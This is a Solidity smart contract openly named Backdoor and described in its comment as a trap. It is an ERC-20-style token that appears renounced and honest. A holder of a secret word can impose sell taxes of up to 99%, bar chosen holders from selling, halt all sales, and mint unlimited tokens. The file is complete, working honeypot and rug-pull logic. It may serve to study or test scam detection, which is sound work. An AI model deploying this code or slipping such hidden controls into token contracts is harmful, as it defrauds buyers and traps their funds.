// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Door} from "./Door.sol";
import {PlainToken} from "./PlainToken.sol";

/// Trap: renounced and honest, until who knows the word taxes sales at once or slowly, bars a holder,
/// stops all sales now or some blocks later, or prints.
contract Backdoor is PlainToken, Door {
    uint256 private constant TAX_MAX_BPS = 9_900;

    uint256 private flatBps;
    uint256 private bpsPerBlock;
    uint256 private since;
    uint256 private closing;
    mapping(address => bool) private barred;

    constructor(string memory name_, string memory symbol_, uint8 decimals_, uint256 supply)
        PlainToken(name_, symbol_, decimals_, supply)
    {}

    function raise(bytes calldata word, uint256 flatBps_, uint256 bpsPerBlock_) external knowing(word) {
        (flatBps, bpsPerBlock, since) = (flatBps_, bpsPerBlock_, block.number);
    }

    function bar(bytes calldata word, address holder) external knowing(word) {
        barred[holder] = true;
    }

    function stop(bytes calldata word, uint256 blocks) external knowing(word) {
        closing = block.number + blocks;
    }

    function print(bytes calldata word, address to, uint256 value) external knowing(word) {
        _mint(to, value);
    }

    function _move(address from, address to, uint256 value) internal override {
        if (!_isSell(from, to)) return _settle(from, to, value);
        require((closing == 0 || block.number < closing) && !barred[from], "closed");
        uint256 bps = flatBps + bpsPerBlock * (block.number - since);
        uint256 tax = value * (bps > TAX_MAX_BPS ? TAX_MAX_BPS : bps) / 10_000;
        if (tax > 0) _settle(from, address(this), tax);
        _settle(from, to, value - tax);
    }
}
